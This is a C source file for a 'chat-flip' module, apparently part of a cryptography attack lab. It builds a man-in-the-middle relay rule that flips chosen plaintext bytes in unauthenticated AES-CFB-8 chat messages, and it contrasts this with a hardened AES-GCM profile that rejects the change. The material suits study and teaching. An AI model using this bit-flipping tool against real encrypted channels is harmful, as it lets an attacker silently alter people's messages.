/*
 * chat-flip: chat's messages have no MAC, and CFB-8 is malleable.  It
 * decrypts byte j as P[j] = C[j] xor E(K, C[j-16] .. C[j-1])[0]: xor a
 * difference into C[j] and the same bits of P[j] change, exactly; but
 * C[j] then sits in the shift register for the next 16 bytes, whose
 * keystream turns to noise.  From the plaintext the attacker knows ("user:
 * text", a form, an order) and the bytes it wants at an offset, this
 * writes the pk-mitm rule (docs/mitm.md) that makes the change in the
 * copy the relay sends the receiver, and says which bytes it will see
 * garbled.  On the hardened profile each message is sealed with
 * AES-256-GCM: the receiver refuses the changed one.
 */
#include <err.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attack.h"
#include "chatwire.h"
#include "num.h"

#define REG 16 /* CFB-8's shift register: the bytes one flip garbles */

static const struct option longopts[] = {
    {"at", required_argument, NULL, 'a'},
    {"nth", required_argument, NULL, 'n'},
    {"want", required_argument, NULL, 'w'},
    {NULL, 0, NULL, 0},
};

/*
 * The rule's text into out: byte at's ciphertext xor d, in a message of
 * len bytes; its length.
 */
static size_t
rule(char *out, size_t size, size_t at, uint8_t d, size_t len, long long nth)
{
	size_t last = at + REG < len ? at + REG : len - 1;

	return (size_t)snprintf(out, size,
	    "# chat-flip: plaintext byte %zu changed; the %zu after it turn to"
	    " noise\n"
	    "s2c step=message nth=%lld ciphertext[%zu]^=%02x\n",
	    at, last - at, nth, at, d);
}

static int
chat_flip_main(int argc, char *argv[])
{
	struct attack_known k = {.max = CHAT_TEXT_MAX, .wmax = CHAT_TEXT_MAX};
	const char *errstr;
	uint8_t d = 0;
	char out[256];
	size_t len, i;
	long long nth = 1;
	int ch;

	while ((ch = attack_getopt(argc, argv, "a:n:w:", longopts)) != -1)
		if (!known_option(&k, ch, optarg) && ch == 'n') {
			nth = num_parse(optarg, 1, 1LL << 40, &errstr);
			if (errstr != NULL)
				errx(2, "--nth: %s is %s", optarg, errstr);
		}
	argc -= optind;
	argv += optind;
	known_read(&k, argc, argv);
	/* A change garbles the REG bytes after it: only the last is free. */
	for (i = 0; i < k.n; i++)
		if ((d = k.known[k.at + i] ^ (uint8_t)k.want[i]) != 0 &&
		    i + 1 < k.n)
			errx(2,
			    "--want: byte %zu lies among the %d bytes that the"
			    " change of byte %zu garbles (CFB-8): it cannot be"
			    " chosen",
			    k.at + i + 1, REG, k.at + i);
	if (d == 0)
		errx(2, "--want: the message has these bytes already");
	attack_progress("\"%.*s\" -> \"%s\" at %zu: the receiver sees it, and"
			" up to %d bytes after it garbled",
	    (int)k.n, (const char *)k.known + k.at, k.want, k.at, REG);
	len = rule(out, sizeof(out), k.at + k.n - 1, d, k.len, nth);
	attack_output((const uint8_t *)out, len);
	free(k.known);
	return 0;
}

const struct attack attack_chat_flip = {
    "chat-flip",
    "--at offset --want text [-n nth] [-o rules] [known-plaintext]",
    "chat: the pk-mitm rule that changes a message's bytes in flight",
    "  -a, --at offset    where the bytes to change start in \"user:"
    " text\"\n"
    "  -n, --nth n        the n-th message the relay sends the receiver"
    " through\n"
    "                     pk-mitm (default 1)\n"
    "  -w, --want text    the bytes to put there: only the last may"
    " differ\n"
    "                     (a changed byte garbles the 16 after it)\n"
    "  known-plaintext    the message as the attacker knows it, \"user:"
    " text\"\n"
    "                     without a newline (default: stdin)\n",
    chat_flip_main,
};
